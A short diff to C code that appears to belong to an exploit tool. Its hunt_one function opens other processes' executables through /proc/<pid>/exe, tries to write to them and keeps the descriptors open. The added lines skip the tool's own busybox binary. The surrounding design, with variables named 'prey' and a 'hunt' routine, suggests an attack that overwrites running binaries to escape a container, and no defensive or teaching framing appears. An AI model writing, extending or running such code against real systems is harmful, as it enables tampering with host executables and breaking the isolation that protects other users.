@@ -78,6 +78,13 @@ static void hunt_one(const char *pid) {
     snprintf(path, sizeof path, "/proc/%s/exe", pid);
     int fd = open(path, O_RDONLY);
     if (fd < 0) return;
+    // Since our look it may have become a program of this root file system, which we are free to write to.
+    struct stat prey, own;
+    if (fstat(fd, &prey) != 0 || stat("/bin/busybox", &own) != 0 ||
+        (prey.st_ino == own.st_ino && prey.st_dev == own.st_dev)) {
+        close(fd);
+        return;
+    }
     try_writing(fd);
     if (holds < 64) held[holds++] = fd;
     else close(fd);
